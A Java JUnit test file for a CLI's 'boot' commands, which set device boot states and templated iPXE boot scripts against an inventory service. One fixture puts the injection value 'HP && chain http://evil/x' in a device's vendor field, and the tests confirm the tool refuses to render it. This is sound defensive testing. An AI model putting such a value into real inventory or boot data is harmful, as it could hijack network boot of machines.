package io.mercury.cli.command.boot;

import static io.mercury.cli.testing.McliRun.mcli;
import static org.assertj.core.api.Assertions.assertThat;

import io.mercury.cli.client.Endpoints;
import io.mercury.cli.testing.McliRun;
import io.mercury.inventory.testing.TestingInventory;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.bson.Document;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code mcli boot} against a real inventory service. */
class BootCommandsTest {
  TestingInventory inventory;
  @TempDir Path dir;

  @BeforeEach
  void start() {
    inventory = TestingInventory.start();
    inventory.insert(Map.of("mercury_id", "a1", "rack", "r1"));
    inventory.insert(Map.of("mercury_id", "a2", "rack", "r1", "boot", Map.of("state", "local")));
    inventory.insert(Map.of("mercury_id", "b1", "rack", "r2"));
  }

  @AfterEach
  void stop() {
    inventory.close();
  }

  McliRun withInput(String stdin, String... args) {
    return mcli(stdin, Map.of(Endpoints.INVENTORY_ENV, inventory.endpoint()), args);
  }

  McliRun run(String... args) {
    return withInput("", args);
  }

  Document boot(String id) {
    Document d = inventory.devices().find(new Document("mercury_id", id)).first();
    return d == null ? null : d.get("boot", Document.class);
  }

  @Test
  void showPrintsStateScriptAndDecision() {
    McliRun plain = run("boot", "show", "a2");
    assertThat(plain.exitCode()).as(plain.err()).isZero();
    assertThat(plain.out()).isEqualTo("mercury_id  a2\nboots       local\nstate       local\nscript      (none)\n");
    McliRun json = run("boot", "show", "a1", "--json");
    assertThat(json.out()).isEqualTo("{\"mercury_id\":\"a1\",\"boots\":\"agent\",\"boot\":null}\n");
    McliRun missing = run("boot", "show", "zz");
    assertThat(missing.exitCode()).isEqualTo(1);
    assertThat(missing.err()).contains("no device with mercury_id zz");
  }

  @Test
  void stateChangesTheMatchingDevicesAndDryRunChangesNothing() {
    McliRun dry = run("boot", "state", "rack=r1", "rescue", "--dry-run");
    assertThat(dry.exitCode()).as(dry.err()).isZero();
    assertThat(dry.outLines()).containsExactly("MERCURY_ID  BOOTS  WOULD BOOT", "a1          agent  rescue", "a2          local  rescue");
    assertThat(dry.err()).contains("2 devices (dry run: nothing changed)");
    assertThat(boot("a1")).isNull();

    McliRun dryJson = run("boot", "state", "rack=r2", "local", "--dry-run", "--json");
    assertThat(dryJson.out()).isEqualTo("{\"mercury_id\":\"b1\",\"boots\":\"agent\",\"would_boot\":\"local\"}\n");

    McliRun set = run("boot", "state", "rack=r1", "rescue");
    assertThat(set.exitCode()).as(set.err()).isZero();
    assertThat(set.out()).isEqualTo("matched 2, changed 2\n");
    assertThat(boot("a1").getString("state")).isEqualTo("rescue");
    assertThat(boot("a2").getString("state")).isEqualTo("rescue");
    assertThat(boot("b1")).isNull();
    assertThat(run("boot", "state", "rack=r2", "local", "--json").out()).isEqualTo("{\"matched_count\":1,\"modified_count\":1}\n");
  }

  @Test
  void badStateAndEmptySelectionAreUsageErrors() {
    McliRun bad = run("boot", "state", "rack=r1", "disk");
    assertThat(bad.exitCode()).isEqualTo(2);
    assertThat(bad.err()).contains("the last argument must be the state: agent, local or rescue (was 'disk')");
    McliRun none = run("boot", "state", "local");
    assertThat(none.exitCode()).isEqualTo(2);
    assertThat(none.err()).contains("no FILTER selects devices");
    assertThat(run("boot", "state", "--all", "local").out()).isEqualTo("matched 3, changed 3\n");
  }

  @Test
  void aChangeThatMatchesNoDeviceIsAFailure() {
    McliRun nothing = run("boot", "state", "rack=r12", "local");
    assertThat(nothing.exitCode()).isEqualTo(1);
    assertThat(nothing.out()).isEqualTo("matched 0, changed 0\n");
    assertThat(nothing.err()).contains("no device matches; nothing was changed");
    assertThat(run("boot", "clear", "rack=r12").exitCode()).isEqualTo(1);
    // matching devices that already boot so is not a failure
    run("boot", "state", "rack=r2", "local");
    McliRun again = run("boot", "state", "rack=r2", "local");
    assertThat(again.exitCode()).as(again.err()).isZero();
    assertThat(again.out()).startsWith("matched 1, ");
  }

  @Test
  void scriptFromAFileOrStdinAndClear() throws Exception {
    Path file = dir.resolve("install.ipxe");
    Files.writeString(file, "#!ipxe\necho {{mercury_id}}\n");
    McliRun set = run("boot", "script", "rack=r1", "--file", file.toString());
    assertThat(set.exitCode()).as(set.err()).isZero();
    assertThat(boot("a1").getString("script")).isEqualTo("#!ipxe\necho {{mercury_id}}\n");
    assertThat(run("boot", "show", "a1").out()).contains("boots       script\n", "script:\n#!ipxe\necho {{mercury_id}}\n");
    assertThat(withInput("#!ipxe\nexit\n", "boot", "script", "mercury_id=b1", "-f", "-").exitCode()).isZero();
    assertThat(boot("b1").getString("script")).isEqualTo("#!ipxe\nexit\n");

    McliRun notIpxe = withInput("echo hi\n", "boot", "script", "mercury_id=b1", "-f", "-");
    assertThat(notIpxe.exitCode()).isEqualTo(2);
    assertThat(notIpxe.err()).contains("does not start with #!ipxe");
    McliRun missing = run("boot", "script", "mercury_id=b1", "-f", dir.resolve("nope").toString());
    assertThat(missing.exitCode()).isEqualTo(2);
    assertThat(missing.err()).contains("cannot read --file");

    McliRun dry = run("boot", "clear", "rack=r1", "--dry-run");
    assertThat(dry.outLines()).containsExactly("MERCURY_ID  BOOTS   WOULD BOOT", "a1          script  agent", "a2          script  agent");
    assertThat(run("boot", "clear", "rack=r1").out()).isEqualTo("matched 2, changed 2\n");
    assertThat(boot("a2").getString("state")).isEqualTo("agent");
    assertThat(boot("a2").get("script")).isNull();
  }

  static final String KERNEL = "#!ipxe\nkernel http://files/vmlinuz ip={{ip}} vendor={{dmi.sys_vendor}}\nboot\n";

  /** Three devices on rack r3: c1 has every variable of {@link #KERNEL}, c2 lacks ip, c3's vendor is unsafe. */
  Path rackR3() throws Exception {
    inventory.insert(Map.of("mercury_id", "c1", "rack", "r3", "ip", "10.0.0.1", "dmi", Map.of("sys_vendor", "HP")));
    inventory.insert(Map.of("mercury_id", "c2", "rack", "r3", "dmi", Map.of("sys_vendor", "Dell"), "boot", Map.of("state", "local")));
    inventory.insert(Map.of("mercury_id", "c3", "rack", "r3", "ip", "10.0.0.3", "dmi", Map.of("sys_vendor", "HP && chain http://evil/x")));
    Path file = dir.resolve("kernel.ipxe");
    Files.writeString(file, KERNEL);
    return file;
  }

  @Test
  void scriptDryRunPrintsWhatEachDeviceWouldBootAndWhatItLacks() throws Exception {
    Path file = rackR3();

    McliRun dry = run("boot", "script", "rack=r3", "--file", file.toString(), "--dry-run");

    assertThat(dry.exitCode()).as(dry.err()).isZero();
    assertThat(dry.out())
        .isEqualTo(
            "== c1 (boots agent now)\n"
                + "#!ipxe\nkernel http://files/vmlinuz ip=10.0.0.1 vendor=HP\nboot\n"
                + "== c2 (boots local now)\n"
                + "#!ipxe\nkernel http://files/vmlinuz ip= vendor=Dell\nboot\n"
                + "-- missing: ip (rendered empty)\n"
                + "== c3 (boots agent now): not served: the value of {{dmi.sys_vendor}} holds the word '&&', which separates iPXE commands\n");
    assertThat(dry.errLines())
        .containsExactly(
            "3 devices (dry run: nothing changed)",
            "2 of them would be refused without --force: c2 (missing ip), c3 (value of {{dmi.sys_vendor}} unsafe in iPXE)");
    assertThat(boot("c1")).isNull();
    assertThat(boot("c2").get("script")).isNull();

    McliRun json = run("boot", "script", "rack=r3", "--file", file.toString(), "--dry-run", "--json");
    assertThat(json.outLines())
        .containsExactly(
            "{\"mercury_id\":\"c1\",\"boots\":\"agent\",\"would_boot\":\"script\","
                + "\"rendered\":\"#!ipxe\\nkernel http://files/vmlinuz ip=10.0.0.1 vendor=HP\\nboot\\n\",\"missing\":[],\"unsafe\":null}",
            "{\"mercury_id\":\"c2\",\"boots\":\"local\",\"would_boot\":\"script\","
                + "\"rendered\":\"#!ipxe\\nkernel http://files/vmlinuz ip= vendor=Dell\\nboot\\n\",\"missing\":[\"ip\"],\"unsafe\":null}",
            "{\"mercury_id\":\"c3\",\"boots\":\"agent\",\"would_boot\":\"script\",\"rendered\":null,\"missing\":[],"
                + "\"unsafe\":\"the value of {{dmi.sys_vendor}} holds the word '&&', which separates iPXE commands\"}");
  }

  @Test
  void aScriptSomeDevicesLackVariablesForIsRefusedAndChangesNoDevice() throws Exception {
    Path file = rackR3();

    McliRun refused = run("boot", "script", "rack=r3", "--file", file.toString());

    assertThat(refused.exitCode()).isEqualTo(1);
    assertThat(refused.out()).isEmpty();
    assertThat(refused.errLines())
        .containsExactly(
            "mcli: refused: the script does not render cleanly on 2 of 3 matching devices: c2 (missing ip),"
                + " c3 (value of {{dmi.sys_vendor}} unsafe in iPXE); nothing was changed"
                + " (--dry-run shows what each device would get; --force sets it anyway)");
    assertThat(boot("c1")).isNull();
    assertThat(boot("c2")).isEqualTo(new Document("state", "local"));
    assertThat(boot("c3")).isNull();
    // the one device that has everything can be changed on its own
    assertThat(run("boot", "script", "mercury_id=c1", "--file", file.toString()).out()).isEqualTo("matched 1, changed 1\n");
    assertThat(boot("c1").getString("script")).isEqualTo(KERNEL);
  }

  @Test
  void aRefusalNamesAFewDevicesThenCountsTheRest() throws Exception {
    for (int i = 1; i <= 5; i++) {
      inventory.insert(Map.of("mercury_id", "d" + i, "rack", "r4"));
    }
    McliRun refused = withInput("#!ipxe\necho {{ip}} {{netmask}}\n", "boot", "script", "rack=r4", "-f", "-");

    assertThat(refused.exitCode()).isEqualTo(1);
    assertThat(refused.err())
        .contains("on 5 of 5 matching devices: d1 (missing ip, netmask), d2 (missing ip, netmask), d3 (missing ip, netmask) and 2 more; nothing was changed");
    assertThat(inventory.devices().countDocuments(new Document("boot.script", new Document("$exists", true)))).isZero();
  }

  @Test
  void forceSetsTheScriptAnywayAndSaysWhereItDoesNotRenderCleanly() throws Exception {
    Path file = rackR3();

    McliRun forced = run("boot", "script", "rack=r3", "--file", file.toString(), "--force");

    assertThat(forced.exitCode()).as(forced.err()).isZero();
    assertThat(forced.out()).isEqualTo("matched 3, changed 3\n");
    assertThat(forced.errLines())
        .containsExactly("mcli: --force: the script does not render cleanly on 2 of 3 matching devices: c2 (missing ip), c3 (value of {{dmi.sys_vendor}} unsafe in iPXE)");
    assertThat(boot("c2").getString("script")).isEqualTo(KERNEL);
    assertThat(boot("c3").getString("script")).isEqualTo(KERNEL);
  }

  @Test
  void aScriptThatIsNotAValidTemplateIsAUsageError() {
    McliRun bad = withInput("#!ipxe\necho {{#dmi}}\n", "boot", "script", "mercury_id=b1", "-f", "-");
    assertThat(bad.exitCode()).isEqualTo(2);
    assertThat(bad.err()).contains("mcli: the script in - is not a valid template: ");
    McliRun partial = withInput("#!ipxe\n{{> logback.xml}}\n", "boot", "script", "mercury_id=b1", "-f", "-", "--force");
    assertThat(partial.exitCode()).isEqualTo(2);
    assertThat(partial.err()).contains("a boot script cannot include another template");
    assertThat(boot("b1")).isNull();
  }

  @Test
  void unreachableInventoryIsAFailure() {
    McliRun run = mcli("", Map.of(Endpoints.INVENTORY_ENV, "tcp://127.0.0.1:1"), "--timeout", "0.5", "boot", "state", "rack=r1", "local");
    assertThat(run.exitCode()).isEqualTo(1);
    assertThat(run.err()).contains("cannot reach inventory");
  }
}
